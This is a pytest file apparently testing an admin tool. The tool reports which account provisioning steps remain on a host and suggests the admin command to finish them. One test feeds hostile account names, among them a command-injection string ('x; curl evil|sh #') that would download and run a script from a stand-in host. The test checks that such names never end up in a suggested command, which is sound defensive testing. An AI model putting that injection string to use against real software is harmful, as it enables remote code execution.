"""What is left of an account's setup, seen from outside."""

from __future__ import annotations

import os
import pwd
from pathlib import Path
from typing import Any

import pytest

from svc.admin.findings import Enrolled, Host
from svc.admin.people import provisioning_status
from svc.domain.accounts import users
from svc.domain.accounts.users import Account
from svc.host.owner import Owner
from svc.settings import Settings

NOBODY = pwd.getpwnam("nobody")
ALL = ["Linux account", "home directory", "subordinate uids", "subordinate gids", "enrolment", "password"]


def account(**columns: Any) -> Account:
    row = dict.fromkeys(Account._fields) | {"provisioning_note": "", "failed_logins": 0}
    values = row | {"name": "nobody", "provisioning": users.INCOMPLETE} | columns
    return Account(**values)  # type: ignore[arg-type]  # a row's columns, most of them NULL


@pytest.fixture
def host(tmp_path: Path) -> Host:
    """A host on which everything is done for nobody."""
    (tmp_path / "etc").mkdir()
    for kind in ("uid", "gid"):
        (tmp_path / f"etc/sub{kind}").write_text("ben:100000:65536\nnobody:165536:65536\n")
    (tmp_path / NOBODY.pw_dir.lstrip("/")).mkdir(parents=True)
    enrolled = [Enrolled("ben", 1), Enrolled("nobody", NOBODY.pw_uid)]
    return Host(
        Settings(environ={}, file={"SVC_DB": "/srv/svc.db"}),
        "",
        Owner(0, 0),
        str(tmp_path),
        enrolled=enrolled,
    )


def test_nothing_is_left_but_to_finish_the_row(host: Host) -> None:
    found = provisioning_status.inspect(account(password_hash="v1$x"), host)
    assert found == ([], "sudo svc admin create-user nobody", "")
    assert provisioning_status.inspect(account(), host).steps == ["password"]


def test_each_step_is_looked_for(host: Host) -> None:
    root = Path(host.root)
    user = account(password_hash="v1$x", superuser=True)
    (root / "etc/subuid").write_text("nobody:165536:65535\n")
    mark = "administrator's mark (--superuser, if you want it)"  # the row's own is no reason to give it
    assert provisioning_status.inspect(user, host).steps == ["subordinate uids", mark]
    (root / "etc/subuid").write_text(f"{NOBODY.pw_uid}:165536:65536\n")
    (root / "etc/subgid").unlink()
    assert provisioning_status.inspect(user, host).steps == ["subordinate gids", mark]
    host.enrolled[1] = Enrolled("nobody", 4001)
    (root / "run/systemd/system").mkdir(parents=True)
    os.rmdir(root / NOBODY.pw_dir.lstrip("/"))
    steps = ["home directory", "subordinate gids", "lingering", "enrolment", mark]
    assert provisioning_status.inspect(user, host)[:2] == (steps, "sudo svc admin create-user nobody")


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "\x1b]0;x\x07", "nul\0", "-x", ""])
def test_no_command_is_made_of_what_is_no_name(host: Host, name: str) -> None:
    found = provisioning_status.inspect(account(name=name), host)
    assert found.command == "sudo svc admin doctor"
    assert name not in "".join(found.steps) or not name


def test_without_a_linux_account_all_is_left(host: Host) -> None:
    assert provisioning_status.inspect(account(name="no-such-account"), host).steps == ALL


def test_a_ready_account_is_asked_only_whose_it_is(host: Host, tmp_path: Path) -> None:
    host.enrolled.clear()
    ready = {"provisioning": users.READY, "superuser": True}
    assert provisioning_status.inspect(account(uid=NOBODY.pw_uid, **ready), host) == provisioning_status.DONE
    assert provisioning_status.inspect(account(name="root", uid=0, **ready), host) == provisioning_status.DONE
    gone = provisioning_status.inspect(account(name="no-such-account", uid=4001, **ready), host)
    assert gone.steps == ["its deletion"]
    assert gone.note == "its Linux account is gone"
    assert gone.command == "sudo svc admin delete-user no-such-account"
    other = provisioning_status.inspect(account(uid=4001, **ready), host)
    assert f"has uid {NOBODY.pw_uid} now" in other.note
    assert provisioning_status.record(account(uid=4001, **ready), host)["note"] == other.note


def test_of_a_retired_account_files_may_be_left(host: Host) -> None:
    retired = account(name="ada:4001", provisioning=users.CLEANUP)
    assert provisioning_status.inspect(retired, host).command == "sudo svc admin delete-user ada:4001"
    before = retired._replace(name="ada.4001", uid=None, provisioning_note=users.REMOVED.format("ada", 4001))
    assert provisioning_status.inspect(before, host).command == "sudo svc admin delete-user ada.4001"


@pytest.mark.parametrize(
    ("columns", "state"),
    [
        ({}, "none"),
        ({"password_hash": "v1$x"}, "set"),
        ({"password_hash": "v1$x", "password_closed": True}, "closed"),
        ({"password_hash": "v1$x", "failed_logins": 100}, "locked"),
        ({"password_hash": "v1$x", "failed_logins": 99}, "set"),
    ],
)
def test_whether_the_password_login_is_open(columns: dict[str, Any], state: str, host: Host) -> None:
    record = provisioning_status.record(account(**columns), host)
    assert record["password"] == state
    assert not [key for key in record if "hash" in key]
